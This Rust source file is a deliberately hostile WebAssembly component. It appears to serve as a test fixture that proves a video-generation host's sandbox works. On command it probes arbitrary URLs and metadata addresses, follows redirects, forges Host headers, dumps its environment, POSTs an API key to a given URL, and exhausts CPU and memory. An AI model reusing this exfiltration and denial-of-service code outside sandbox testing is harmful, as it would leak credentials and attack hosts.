//! A component that implements `videogen:api/video-gen` but attacks its host.
//!
//! The integration tests run it in the real host to prove the sandbox. `submit` reads its
//! command from the request's prompt:
//!
//! | prompt | what it tries |
//! |---|---|
//! | `reach URL` | a GET to any URL (other hosts, ports, metadata addresses) |
//! | `follow URL` | a GET, then a GET to wherever a redirect points |
//! | `forge-host URL HOST` | a GET with a forged `Host` header |
//! | `env` | report its whole environment |
//! | `exfiltrate URL` | POST what it found in `EMPIRIOLABS_API_KEY` to URL, in a header and the body |
//! | `parallel N URL` | N GETs in flight at once |
//! | `spin` | loop forever |
//! | `hog` | allocate without bound |
//!
//! It answers `Ok(report)` with what happened, or the transport error the host gave it.

// The helpers return the WIT `error` the exports must return; boxing it would only add
// noise to a test fixture.
#![allow(clippy::result_large_err)]

wit_bindgen::generate!({
    path: "../../../wit",
    world: "empiriolabs:happyhorse/happyhorse",
});

use exports::videogen::api::video_gen::{
    ClientConfig, CostEstimate, Error, Guest, JobId, JobResult, JobStatus, ResolutionRate,
    TransportFailure, TransportKind, ValidatedRequest, VideoRequest,
};
use waki::ErrorCode;
use waki::bindings::wasi::http::types::Fields;

struct Hostile;

fn denied_or(error: waki::ErrorCode) -> TransportKind {
    match error {
        ErrorCode::HttpRequestDenied => TransportKind::Denied,
        ErrorCode::ConnectionRefused | ErrorCode::ConnectionLimitReached => TransportKind::Connect,
        _ => TransportKind::Other,
    }
}

fn transport(e: anyhow::Error) -> Error {
    let kind = e
        .downcast_ref::<ErrorCode>()
        .cloned()
        .map_or(TransportKind::Other, denied_or);
    Error::TransportError(TransportFailure {
        kind,
        message: e.to_string(),
    })
}

fn get(url: &str) -> Result<waki::Response, Error> {
    waki::Client::new().get(url).send().map_err(transport)
}

fn run(command: &str) -> Result<String, Error> {
    let mut words = command.split_whitespace();
    match (words.next(), words.next(), words.next()) {
        (Some("reach"), Some(url), _) => get(url).map(|r| format!("status {}", r.status_code())),
        (Some("follow"), Some(url), _) => {
            let first = get(url)?;
            let location = first
                .header("location")
                .and_then(|v| v.to_str().ok())
                .map(str::to_string);
            match location {
                Some(next) => get(&next).map(|r| format!("followed to status {}", r.status_code())),
                None => Ok(format!("no redirect: status {}", first.status_code())),
            }
        }
        (Some("forge-host"), Some(_url), Some(host)) => {
            // WASI-HTTP must refuse the header itself; report exactly what happened.
            match Fields::from_list(&[("host".to_string(), host.as_bytes().to_vec())]) {
                Ok(_) => Ok("forged Host header accepted".into()),
                Err(e) => Ok(format!("forged Host header refused: {e:?}")),
            }
        }
        (Some("env"), _, _) => Ok(std::env::vars()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("\n")),
        (Some("exfiltrate"), Some(url), _) => {
            let found = std::env::var("EMPIRIOLABS_API_KEY").unwrap_or_default();
            waki::Client::new()
                .post(url)
                .header("authorization", format!("Bearer {found}"))
                .body(found.clone().into_bytes())
                .send()
                .map(|r| format!("sent {found} : status {}", r.status_code()))
                .map_err(transport)
        }
        (Some("parallel"), Some(n), Some(url)) => parallel(n.parse().unwrap_or(1), url),
        (Some("spin"), _, _) => {
            let mut x: u64 = 0;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        (Some("hog"), _, _) => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        _ => Err(Error::ExecutionFailed),
    }
}

/// Start `n` GETs before waiting for any, and report how each ended.
fn parallel(n: usize, url: &str) -> Result<String, Error> {
    use waki::bindings::wasi::http::outgoing_handler::handle;
    use waki::bindings::wasi::http::types::{OutgoingRequest, Scheme};
    let rest = url.strip_prefix("http://").unwrap_or(url);
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let mut futures = Vec::new();
    for _ in 0..n {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(path));
        futures.push(handle(request, None));
    }
    let mut report = Vec::new();
    for future in futures {
        let outcome = match future {
            Err(code) => format!("{code:?}"),
            Ok(future) => loop {
                match future.get() {
                    Some(Ok(Ok(response))) => break format!("status {}", response.status()),
                    Some(Ok(Err(code))) => break format!("{code:?}"),
                    Some(Err(())) => break "taken".to_string(),
                    None => future.subscribe().block(),
                }
            },
        };
        report.push(outcome);
    }
    Ok(report.join("\n"))
}

impl Guest for Hostile {
    fn validate(_: VideoRequest) -> Result<ValidatedRequest, Error> {
        Err(Error::ExecutionFailed)
    }
    fn estimate_cost(
        _: VideoRequest,
        _: Option<Vec<ResolutionRate>>,
    ) -> Result<CostEstimate, Error> {
        Err(Error::ExecutionFailed)
    }
    fn submit(_: ClientConfig, request: VideoRequest) -> Result<JobId, Error> {
        run(&request.prompt)
    }
    fn poll(_: ClientConfig, _: JobId) -> Result<JobStatus, Error> {
        Err(Error::ExecutionFailed)
    }
    fn wait(_: ClientConfig, _: JobId) -> Result<JobResult, Error> {
        Err(Error::ExecutionFailed)
    }
    fn generate(_: ClientConfig, _: VideoRequest) -> Result<JobResult, Error> {
        Err(Error::ExecutionFailed)
    }
}

export!(Hostile);
